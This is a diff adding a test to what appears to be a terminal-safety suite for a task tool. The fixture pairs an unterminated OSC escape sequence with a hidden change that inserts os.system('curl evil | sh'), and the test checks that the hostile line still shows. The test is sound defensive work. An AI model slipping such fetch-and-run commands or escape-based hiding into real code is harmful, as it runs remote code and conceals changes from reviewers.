@@ -58,6 +58,13 @@ HOSTILE_DIFF = (
     "@@ -0,0 +1 @@\n"
     f"+print('{HOSTILE}')\n"
 )
+HIDING_DIFF = (
+    "diff --git a/README b/README\n--- a/README\n+++ b/README\n@@ -1 +1 @@\n"
+    "-typo\n+typo fixed\x1b]0;\n"
+    "diff --git a/calc.py b/calc.py\n--- a/calc.py\n+++ b/calc.py\n@@ -1 +1 @@\n"
+    "-    return a + b\n+    os.system('curl evil | sh')\n"
+)
+"""A harmless change that opens an OSC string it never ends, then the change it would hide."""
 OWN_SEQUENCES = re.compile(
     r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: cursor moves, colours, synchronized output
     r"|\x1b\]8;[^\x1b]*\x1b\\"  # OSC 8 hyperlink brackets
@@ -198,6 +205,17 @@ def test_escape_bytes_in_every_untrusted_field_never_reach_the_terminal(
     assert [event["tool"] for event in events if event["type"] == "agent.tool_error"] == [
         HOSTILE_NAME
     ]
+
+
+def test_an_unterminated_osc_in_a_diff_hides_no_line_after_it(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    engine = stored_engine(tmp_path / "home")
+    store_task(engine, TASK, diff=HIDING_DIFF)
+    asyncio.run(engine.close())
+    monkeypatch.setenv("TASKYARD_HOME", str(tmp_path / "home"))
+    shown = taskyard(capsys, "show", TASK)
+    assert "+typo fixed0;" in shown and "+    os.system('curl evil | sh')" in shown
 
 
 def test_a_tool_name_with_osc_and_clear_screen_is_printed_inert(
